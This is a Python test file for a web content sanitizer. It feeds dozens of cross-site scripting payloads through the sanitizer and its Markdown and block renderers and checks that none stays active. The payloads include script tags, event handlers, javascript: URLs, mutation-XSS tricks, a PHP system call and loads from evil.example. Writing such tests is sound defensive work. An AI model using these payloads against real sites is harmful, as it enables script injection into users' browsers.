"""No payload stays active, and what articles need survives."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from igny8.content.markup import render_markdown, sanitize_html, to_blocks
from igny8.content.markup.sanitize import ALLOWED_TAGS
from igny8.content.markup.urls import scheme_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/a.png' onload=alert(1)>",
    "<img/src='/a.png'/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="/\\evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="\t//evil.example/x.png">',
    '<img srcset="https://evil.example/x.png 1x">',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/ok' onclick=alert(1) style='background:url(javascript:alert(1))'>x</a>",
    "<a href='/ok' target=_blank ping='https://evil.example'>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "<!-- wp:shortcode -->[gallery]<!-- /wp:shortcode -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "<p>[gallery ids='1,2']</p>",
    "<p>[ev<b></b>il_plugin run='1']</p>",
    "<td align='left' onclick=alert(1)>x</td>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<code class='x\" onclick=alert(1)'>x</code>",
    '"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
]
_SAFE_ATTRIBUTES = {
    "href", "title", "rel", "src", "alt", "width", "height", "start", "colspan", "rowspan", "scope", "align",
    "cite", "class", "data-align",
}  # fmt: skip
_BLOCK_CLASS = re.compile(r"(?:wp-(?:block|element)-[a-z]+|has-[a-z-]+|language-[\w+#.-]+)(?: has-[a-z-]+)*")


class _Inspector(HTMLParser):
    """Finds what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.active.append(tag)
        for name, value in attrs:
            if name not in _SAFE_ATTRIBUTES:
                self.active.append(f"{tag} {name}")
            if name in {"href", "src", "cite"}:
                self._look_at_url(value or "")
            if name == "class" and not _BLOCK_CLASS.fullmatch(value or ""):
                self.active.append(f"class {value}")

    def _look_at_url(self, url: str) -> None:
        if scheme_of(url) not in {"", "http", "https", "mailto", "tel"} or "evil.example" in url:
            self.active.append(url)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.active.append(decl)

    def handle_pi(self, data: str) -> None:
        self.active.append(data)

    def unknown_decl(self, data: str) -> None:
        self.active.append(data)


def inspect(html: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("wrapper", ["{}", "<p>before {} after</p>", "<ul><li>{}</li></ul>", "# {}", "> {}"])
def test_no_payload_stays_active(payload, wrapper):
    text = wrapper.format(payload)
    for html in (sanitize_html(text), render_markdown(text)):
        seen = inspect(html)
        assert seen.active == []
        assert seen.comments == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_block_markup_adds_no_comment_but_its_own_and_runs_no_shortcode(payload):
    blocks = to_blocks(render_markdown(f"Text {payload} text\n\n{payload}"))
    seen = inspect(blocks)
    assert seen.active == []
    assert all(re.match(r" /?wp:[a-z-]+( \{[^}]*\})? $", comment) for comment in seen.comments)
    assert not any(name in comment for comment in seen.comments for name in ("html", "shortcode"))
    assert "[" not in re.sub(r"<!--.*?-->", "", blocks)


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Title</h2>",
        '<p>A <strong>b</strong> <em>c</em> <a href="/x?a=1&amp;b=2" title="t">d</a><br>e</p>',
        '<p><a href="https://other.example/" rel="nofollow sponsored">x</a></p>',
        '<ol start="3"><li>x</li></ol>',
        '<table><thead><tr><th align="right">a</th></tr></thead><tbody><tr>'
        '<td colspan="2">b</td></tr></tbody></table>',
        '<figure><img src="/a.png" alt="x" width="10" height="20"><figcaption>y</figcaption></figure>',
        '<pre><code class="language-python">[gallery] &lt;b&gt;</code></pre>',
        "<blockquote><p>q</p></blockquote><hr>",
        "<p>See [1] and [sic] and […] as a[i].</p>",
    ],
)
def test_what_articles_need_stays_as_it_is(html):
    assert sanitize_html(html) == html


@pytest.mark.parametrize(
    ("src", "hosts", "stays"),
    [
        ("/a.png", (), True),
        ("a.png", (), True),
        ("https://cdn.example.com/a.png", ("example.com",), True),
        ("https://EXAMPLE.com/a.png", ("example.com",), True),
        ("https://example.com/a.png", ("Example.com",), True),
        ("//example.com/a.png", ("example.com",), True),
        ("https://badexample.com/a.png", ("example.com",), False),
        ("https://example.com.evil.example/a.png", ("example.com",), False),
        ("https://example.com@evil.example/a.png", ("example.com",), False),
        ("https://example.com/a.png", (), False),
        ("mailto:a@example.com", ("example.com",), False),
        ("http://[bad/a.png", ("example.com",), False),
        ("", ("example.com",), False),
    ],
)
def test_images_come_from_allowed_hosts_only(src, hosts, stays):
    html = sanitize_html(f'<p>x <img src="{src}" alt="y"></p>', image_hosts=hosts)
    assert ("<img" in html) is stays


def test_a_figure_whose_image_is_refused_goes_with_its_caption():
    html = '<p>a</p><figure><img src="https://evil.example/x.png"><figcaption>c</figcaption></figure>'
    assert sanitize_html(html) == "<p>a</p>"


def test_paragraphs_that_held_only_a_shortcode_go():
    assert sanitize_html('<p>a</p><p>[gallery ids="1"]</p><h2>[/caption]</h2>') == "<p>a</p>"


def test_what_a_removal_brings_together_is_removed_too():
    assert "gallery" not in sanitize_html("<p>[gal[gallery]lery] x</p>")


_FILLERS = ["text ", "<p>", "</p>", "<b>", "<ul><li>", "<", ">", "&lt;", "[", "]", "\n\n"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, *_FILLERS]), max_size=6))
def test_sanitising_any_mixture_leaves_nothing_active_and_is_idempotent(parts):
    html = sanitize_html("".join(parts))
    assert inspect(html).active == []
    assert sanitize_html(html) == html
